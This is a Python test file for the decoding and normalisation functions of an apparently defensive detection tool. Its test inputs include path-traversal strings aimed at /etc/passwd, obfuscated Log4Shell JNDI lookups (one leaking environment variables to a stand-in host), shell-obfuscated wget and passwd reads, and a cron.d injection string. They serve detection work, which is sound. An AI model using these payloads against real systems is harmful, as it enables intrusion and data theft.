from __future__ import annotations

import urllib.parse

from hypothesis import given, settings
from hypothesis import strategies as st

from honeyguard.detect.normalize import (
    decode_repeated,
    deobfuscate_shell,
    normalize_path,
    raw_plus_decoded,
    resolve_log4j_lookups,
    unescape_json,
)


def test_repeated_percent_decoding_and_overlong_utf8() -> None:
    assert decode_repeated(b"/%252e%252e/%252e%252e/etc/passwd") == b"/../../etc/passwd"
    assert decode_repeated(b"/%c0%ae%c0%ae/%c0%afetc") == b"/../" + b"/etc"
    assert decode_repeated(b"/%e0%80%ae%e0%80%ae/x") == b"/../x"
    assert decode_repeated(b"%u002e%u002e%u2215") == b".." + "\u2215".encode()
    assert decode_repeated(b"a+b", plus_is_space=True) == b"a b"
    assert decode_repeated(b"a+b") == b"a+b"
    assert decode_repeated(b"100%zz") == b"100%zz"  # malformed escapes stay


def test_path_normalisation() -> None:
    assert normalize_path(b"/cgi-bin/../../bin/sh") == b"/bin/sh"
    assert normalize_path(b"/manager/..;/html") == b"/html"
    assert normalize_path(b"/a/..;/b/./c") == b"/b/c"
    assert normalize_path(b"\\windows\\win.ini") == b"/windows/win.ini"
    assert normalize_path(b"//etc//passwd") == b"/etc/passwd"
    assert normalize_path(b"/static/") == b"/static/"
    assert normalize_path(b"/a/b/..") == b"/a/"


def test_log4j_lookup_obfuscations_resolve_to_jndi() -> None:
    samples = [
        b"${${lower:j}ndi:ldap://x/a}",
        b"${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x/a}",
        b"${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}",
        b"${${upper:j}${lower:N}di:ldap://x/a}",
        b"${${date:'j'}${date:'n'}di:ldap://x/a}",
    ]
    for sample in samples:
        resolved = resolve_log4j_lookups(sample).lower()
        assert resolved.startswith(b"${jndi:ldap://x/a}"), sample
    kept = resolve_log4j_lookups(b"${jndi:ldap://${env:USER}.${hostName}.x.example/a}")
    assert kept == b"${jndi:ldap://${env:USER}.${hostName}.x.example/a}"


def test_shell_deobfuscation() -> None:
    assert deobfuscate_shell(b"w'g'et${IFS}http://x/a") == b"wget http://x/a"
    assert deobfuscate_shell(b"cat$IFS$9/etc/passwd") == b"cat /etc/passwd"
    assert deobfuscate_shell(b"{wget,-q,http://x/a}") == b"wget -q http://x/a"
    assert deobfuscate_shell(b"w\\get x") == b"wget x"


def test_body_decoding_keeps_raw_and_adds_decoded() -> None:
    assert raw_plus_decoded(b"a=%3Cb%3E") == b"a=%3Cb%3E\n" + b"a=<b>"
    assert raw_plus_decoded(b"plain") == b"plain"
    assert unescape_json(b'"\\u003e/etc/cron.d \\u0026\\u0026 \\"x\\""') == b'">/etc/cron.d && "x""'


@given(st.binary(max_size=300))
@settings(max_examples=300, deadline=None)
def test_percent_encoding_round_trip(data: bytes) -> None:
    encoded = urllib.parse.quote_from_bytes(data, safe=b"").encode()
    assert decode_repeated(encoded, plus_is_space=False) == decode_repeated(data)


@given(st.binary(max_size=300))
@settings(max_examples=300, deadline=None)
def test_normalisers_are_total(data: bytes) -> None:
    for function in (decode_repeated, resolve_log4j_lookups, deobfuscate_shell, raw_plus_decoded, unescape_json):
        assert isinstance(function(data), bytes)


@given(st.lists(st.sampled_from([b"a", b"..", b".", b"..;", b"", b"b%2f", b"\\"]), max_size=12))
@settings(max_examples=300, deadline=None)
def test_normalised_path_has_no_dot_segments_and_is_stable(segments: list[bytes]) -> None:
    path = b"/" + b"/".join(segments)
    normal = normalize_path(path)
    assert normal.startswith(b"/")
    assert all(segment not in (b".", b"..") and not segment.startswith(b"..;") for segment in normal.split(b"/"))
    assert normalize_path(normal) == normal


@given(st.lists(st.sampled_from(["lower", "upper", "default", "plain"]), min_size=4, max_size=4))
@settings(max_examples=50, deadline=None)
def test_any_lookup_nesting_of_jndi_resolves(styles: list[str]) -> None:
    parts = []
    for char, style in zip("jndi", styles, strict=True):
        if style == "lower":
            parts.append(f"${{lower:{char.upper()}}}")
        elif style == "upper":
            parts.append(f"${{upper:{char}}}")
        elif style == "default":
            parts.append(f"${{::-{char}}}")
        else:
            parts.append(char)
    sample = ("${" + "".join(parts) + ":ldap://198.51.100.7/a}").encode()
    assert resolve_log4j_lookups(sample).lower().startswith(b"${jndi:ldap://198.51.100.7/a}")
